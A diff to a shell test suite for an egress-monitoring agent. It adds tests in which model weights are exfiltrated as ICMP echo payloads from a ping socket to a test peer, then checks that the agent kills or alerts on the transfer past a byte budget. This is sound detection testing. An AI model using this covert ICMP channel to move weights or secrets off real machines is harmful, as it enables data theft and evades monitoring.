@@ -5,9 +5,10 @@
 
 load ../lib/harness
 
-setup() { vigil_setup; LOOPDEV=""; }
+setup() { vigil_setup; LOOPDEV=""; PING_RANGE=""; }
 teardown() {
 	vigil_teardown	# the agent first: then nothing holds the disk
+	[ -z "${PING_RANGE:-}" ] || echo "$PING_RANGE" > /proc/sys/net/ipv4/ping_group_range
 	if [ -n "${LOOPDEV:-}" ]; then
 		umount "$T/disk" 2>/dev/null || umount -l "$T/disk" 2>/dev/null || true
 		losetup -d "$LOOPDEV" 2>/dev/null || true
@@ -67,6 +68,41 @@ print("sent", len(data))' "$W/model.safetensors" "$PEER4"
 		taint.sources.0.path="$W/model.safetensors" enforce_action=killed
 	[ "$status" -eq 0 ]
 	stop_agent
+}
+
+# icmp_leak MODE: the weights as ICMP echo through a ping socket (not raw:
+# never refused), counted on the sender's taint like UDP at egress. Ping
+# sockets need the sender's group in ping_group_range (Debian: nobody's),
+# set for the test and restored in teardown.
+icmp_leak() {
+	local counter
+	PING_RANGE="$(cat /proc/sys/net/ipv4/ping_group_range)"
+	echo "0 0" > /proc/sys/net/ipv4/ping_group_range
+	ip netns exec "$NS" python3 "$SCEN/icmp_leak.py" count "$T/icmp.count" "$T/icmp.ready" &
+	SINK_PIDS="$SINK_PIDS $!"
+	for _ in $(seq 100); do [ -e "$T/icmp.ready" ] && break; sleep 0.05; done
+	start_agent --mode "$1"
+	run in_cg python3 "$SCEN/icmp_leak.py" send "$W/model.safetensors" "$PEER4"
+}
+
+@test "blind spot: enforce: the weights as ICMP echo from a ping socket are killed at the budget" {
+	icmp_leak enforce
+	[ "$status" -eq 137 ]
+	sleep 0.5
+	figure "ICMP echo payload bytes past the budget, enforce" "$(cat "$T/icmp.count")"
+	[ "$(cat "$T/icmp.count")" -le $((1 << 20)) ]
+	run alert_wait --timeout 5 mode=enforce action=killed network.daddr="$PEER4" \
+		taint.sources.0.path="$W/model.safetensors"
+	[ "$status" -eq 0 ]
+}
+
+@test "blind spot: monitor: the weights as ICMP echo from a ping socket are counted and alerted past the budget" {
+	icmp_leak monitor
+	[ "$status" -eq 0 ]
+	run alert_wait --timeout 5 rule=weights-egress-budget network.daddr="$PEER4" \
+		taint.sources.0.path="$W/model.safetensors" enforce_action=killed
+	[ "$status" -eq 0 ]
+	[ "$(cat "$T/icmp.count")" -gt $((1 << 20)) ]
 }
 
 # control ARGS...: tests/scenarios/control.py in the test cgroup ($status, $output)
